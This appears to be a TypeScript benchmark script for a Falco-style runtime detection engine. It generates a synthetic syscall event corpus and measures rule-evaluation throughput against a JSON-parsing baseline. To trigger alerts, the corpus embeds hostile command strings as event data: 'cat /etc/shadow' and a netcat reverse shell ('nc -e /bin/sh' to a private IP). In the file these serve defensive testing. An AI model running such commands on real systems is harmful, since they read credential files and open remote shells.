// Runtime detection throughput, in one run, per section:
//   replay  events/s through the rules engine with the stable Falco rules loaded, against a baseline
//           that only parses the same JSON lines (goal: >= 200,000 events/s and >= 0.5 of the baseline)
//   live    the eBPF sensor's CPU and drops at a measured syscall rate (goal: 0 drops at 20,000/s);
//           needs root, bpftrace and a C compiler (bench/runtime-live.ts)
// Run: npx tsx bench/runtime.ts [replay] [live]   (all sections when none is named)
// Input: falco_rules.yaml from BULWARK_FIXTURES and a generated, realistic field-map event corpus.
import { availableParallelism, loadavg } from 'node:os';
import { Readable } from 'node:stream';
import { loadRules } from '../src/runtime/rules/load.js';
import { replay } from '../src/runtime/sources/replay/replay.js';
import { detect } from '../src/runtime/sources/replay/detect.js';
import { readLines } from '../src/runtime/sources/replay/lines.js';
import { fixture } from '../test/support/fixtures.js';
import { benchLive } from './runtime-live.js';

const ROUNDS = 7;
const fmt = (n: number): string => Math.round(n).toLocaleString('en-US');

/**
 * Rates of several variants measured in interleaved rounds (A B C A B C …), best round per variant:
 * on a shared machine the load changes from second to second, and interleaving plus best-of keeps the
 * comparison between variants fair.
 */
interface Rates {
  /** Items per wall-clock second (best round). */
  wall: number;
  /** Items per second of this process's CPU time (best round): what the code costs, without the
   * time spent waiting for a CPU on a shared machine. */
  cpu: number;
}

async function compare(
  variants: Record<string, () => void | Promise<void>>,
  items: number,
): Promise<Record<string, Rates>> {
  const best: Record<string, Rates> = {};
  for (const [name, fn] of Object.entries(variants)) {
    await fn(); // warm-up (JIT, caches)
    best[name] = { wall: 0, cpu: 0 };
  }
  for (let round = 0; round < ROUNDS; round++) {
    for (const [name, fn] of Object.entries(variants)) {
      const cpu0 = process.cpuUsage();
      const start = process.hrtime.bigint();
      await fn();
      const secs = Number(process.hrtime.bigint() - start) / 1e9;
      const cpu = process.cpuUsage(cpu0);
      const cpuSecs = (cpu.user + cpu.system) / 1e6;
      const b = best[name]!;
      b.wall = Math.max(b.wall, items / secs);
      if (cpuSecs > 0) b.cpu = Math.max(b.cpu, items / cpuSecs);
    }
  }
  return best;
}

// ---------------------------------------------------------------------------------------------
// Section: replay
// ---------------------------------------------------------------------------------------------

/** Deterministic PRNG so every run measures the same corpus. */
function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

/**
 * A host/container mix shaped like a busy node: mostly file opens and execs of ordinary programs,
 * network connects, some dup/socket/ptrace; ~1% of events are suspicious (shell with a tty in a
 * container, reads of /etc/shadow, nc -e) so alert formatting is exercised too.
 */
function corpus(n: number): string[] {
  const rnd = prng(42);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const progs = [
    'nginx',
    'node',
    'python3',
    'java',
    'postgres',
    'redis-server',
    'ls',
    'cat',
    'grep',
    'curl',
    'sed',
    'awk',
  ];
  const files = [
    '/usr/lib/x86_64-linux-gnu/libc.so.6',
    '/app/config.yaml',
    '/var/log/nginx/access.log',
    '/proc/self/status',
    '/tmp/upload-1234',
    '/etc/hosts',
    '/etc/resolv.conf',
    '/srv/data/db.sqlite',
  ];
  const containers = ['host', '3ad7b26ded6d', '9f1c2e33aa01', 'b71d00c4e2f8'];
  const lines: string[] = [];
  for (let i = 0; i < n; i++) {
    const cid = pick(containers);
    const proc = pick(progs);
    const base: Record<string, unknown> = {
      'evt.num': i + 1,
      'evt.rawtime': String(1714557600000000000n + BigInt(i) * 1000n),
      'evt.dir': '<',
      'evt.res': 'SUCCESS',
      'proc.pid': 1000 + (i % 5000),
      'proc.vpid': 1 + (i % 300),
      'proc.name': proc,
      'proc.exe': `/usr/bin/${proc}`,
      'proc.exepath': `/usr/bin/${proc}`,
      'proc.cmdline': `${proc} --serve --port 8080`,
      'proc.args': '--serve --port 8080',
      'proc.aname': [proc, 'containerd-shim', 'systemd'],
      'proc.pname': 'containerd-shim',
      'proc.pcmdline': 'containerd-shim -namespace moby',
      'proc.tty': 0,
      'proc.cwd': '/app',
      'user.name': 'app',
      'user.uid': 1000,
      'user.loginuid': -1,
      'container.id': cid,
      'container.name': cid === 'host' ? 'host' : `web-${cid.slice(0, 4)}`,
      'container.image.repository': cid === 'host' ? null : 'docker.io/library/nginx',
      'container.image.tag': cid === 'host' ? null : '1.25',
      'k8s.ns.name': cid === 'host' ? null : 'default',
      'k8s.pod.name': cid === 'host' ? null : `web-${i % 7}`,
    };
    const r = rnd();
    let ev: Record<string, unknown>;
    if (r < 0.5) {
      ev = {
        ...base,
        'evt.type': 'openat',
        'evt.is_open_read': true,
        'evt.is_open_write': false,
        'evt.arg.flags': 'O_RDONLY|O_CLOEXEC',
        'fd.typechar': 'f',
        'fd.type': 'file',
        'fd.num': 3 + (i % 60),
        'fd.name': pick(files),
      };
    } else if (r < 0.62) {
      ev = {
        ...base,
        'evt.type': 'openat',
        'evt.is_open_read': false,
        'evt.is_open_write': true,
        'evt.arg.flags': 'O_WRONLY|O_CREAT|O_APPEND',
        'fd.typechar': 'f',
        'fd.type': 'file',
        'fd.num': 4,
        'fd.name': '/var/log/app/app.log',
      };
    } else if (r < 0.78) {
      ev = { ...base, 'evt.type': 'execve', 'evt.arg.flags': '' };
    } else if (r < 0.9) {
      ev = {
        ...base,
        'evt.type': 'connect',
        'evt.rawres': 0,
        'fd.typechar': '4',
        'fd.type': 'ipv4',
        'fd.l4proto': 'tcp',
        'fd.sip': '10.96.0.10',
        'fd.sport': 5432,
        'fd.cip': '172.17.0.3',
        'fd.cport': 40000 + (i % 2000),
        'fd.name': '172.17.0.3:40000->10.96.0.10:5432',
        'fd.connected': true,
      };
    } else if (r < 0.95) {
      ev = { ...base, 'evt.type': 'socket', 'evt.arg.domain': 'AF_INET' };
    } else if (r < 0.99) {
      ev = { ...base, 'evt.type': 'dup2', 'evt.rawres': 5, 'fd.type': 'file', 'fd.typechar': 'f' };
    } else {
      const k = i % 3;
      ev =
        k === 0
          ? {
              ...base,
              'evt.type': 'execve',
              'proc.name': 'bash',
              'proc.exepath': '/bin/bash',
              'proc.cmdline': 'bash -i',
              'proc.tty': 34816,
              'proc.pname': 'runc',
              'proc.aname': ['bash', 'runc'],
              'container.id': '3ad7b26ded6d',
            }
          : k === 1
            ? {
                ...base,
                'evt.type': 'openat',
                'evt.is_open_read': true,
                'fd.typechar': 'f',
                'fd.num': 3,
                'fd.name': '/etc/shadow',
                'proc.name': 'cat',
                'proc.cmdline': 'cat /etc/shadow',
              }
            : {
                ...base,
                'evt.type': 'execve',
                'proc.name': 'nc',
                'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444',
                'container.id': '9f1c2e33aa01',
              };
    }
    lines.push(JSON.stringify(ev));
  }
  return lines;
}

async function benchReplay(): Promise<void> {
  const N = 50_000;
  const load = await loadRules([fixture('falco', 'falco_rules.yaml')], { hostname: 'bench' });
  if (load.errors.length) throw new Error(`rules failed to load: ${load.errors[0]!.message}`);
  const { ruleset } = load;
  const lines = corpus(N);
  const bytes = lines.reduce((s, l) => s + l.length + 1, 0);
  let sink = 0;
  let alerts = 0;

  // The whole `bulwark runtime replay` path: streaming line splitting, detection, rules, alerts.
  const text = `${lines.join('\n')}\n`;
  const chunks: string[] = [];
  for (let i = 0; i < text.length; i += 64 * 1024) chunks.push(text.slice(i, i + 64 * 1024));
  let streamAlerts = 0;
  const r = await compare(
    {
      parseOnly: () => {
        for (const l of lines) sink += (JSON.parse(l) as object) ? 1 : 0;
      },
      engine: () => {
        alerts = 0;
        for (const l of lines) {
          const d = detect(JSON.parse(l));
          if ('events' in d) for (const ev of d.events) alerts += ruleset.evaluate(ev).length;
        }
      },
      streamParse: async () => {
        for await (const { text: t } of readLines(Readable.from(chunks)))
          sink += (JSON.parse(t) as object) ? 1 : 0;
      },
      streamed: async () => {
        streamAlerts = 0;
        await replay(Readable.from(chunks), ruleset, () => streamAlerts++);
      },
    },
    N,
  );
  const { parseOnly, engine, streamParse, streamed } = r as Record<
    'parseOnly' | 'engine' | 'streamParse' | 'streamed',
    Rates
  >;

  console.log(
    `== replay: ${fmt(N)} field-map events (${(bytes / N).toFixed(0)} bytes/line), falco_rules.yaml (${load.stats.rules} rules), node ${process.versions.node}; best of ${ROUNDS} interleaved rounds`,
  );
  console.log(
    `   machine: ${availableParallelism()} CPUs, load average ${loadavg()[0]!.toFixed(1)} (absolute rates scale with free CPU; the ratios much less)`,
  );
  console.log(
    `   alerts per pass: ${alerts} (stream: ${streamAlerts}); event types indexed: ${ruleset.eventTypes().types.length}`,
  );
  const row = (label: string, x: Rates, base?: Rates): string =>
    `   ${label.padEnd(29)}${fmt(x.wall).padStart(10)} events/s wall ${fmt(x.cpu).padStart(10)} events/CPU-s` +
    (base
      ? `  ${(x.wall / base.wall).toFixed(2)} × baseline (wall), ${(x.cpu / base.cpu).toFixed(2)} (CPU)`
      : '  (baseline)');
  console.log(row('parse JSON lines only', parseOnly));
  console.log(row('parse + rules engine', engine, parseOnly));
  console.log(row('stream: split + parse only', streamParse));
  console.log(row('stream: bulwark replay path', streamed, streamParse));
  const ratio = Math.min(engine.wall / parseOnly.wall, engine.cpu / parseOnly.cpu);
  console.log(
    `   goal >= 200,000 events/s: ${engine.wall >= 200_000 ? 'met' : 'not met'} (wall), ${engine.cpu >= 200_000 ? 'met' : 'not met'} (per CPU-second); ` +
      `goal >= 0.5 × baseline: ${ratio >= 0.5 ? 'met' : 'NOT met'} (${ratio.toFixed(2)})`,
  );
  if (sink < 0) console.log(sink);
}

// ---------------------------------------------------------------------------------------------
// Section: live — the sensor's CPU use and drops at a measured syscall rate: bench/runtime-live.ts.
// ---------------------------------------------------------------------------------------------

const SECTIONS: Record<string, () => Promise<void>> = {
  replay: benchReplay,
  live: benchLive,
};

const wanted = process.argv.slice(2);
for (const name of wanted.length ? wanted : Object.keys(SECTIONS)) {
  const run = SECTIONS[name];
  if (!run) {
    console.log(`== ${name}: no such section (have: ${Object.keys(SECTIONS).join(', ')})`);
    continue;
  }
  await run();
}
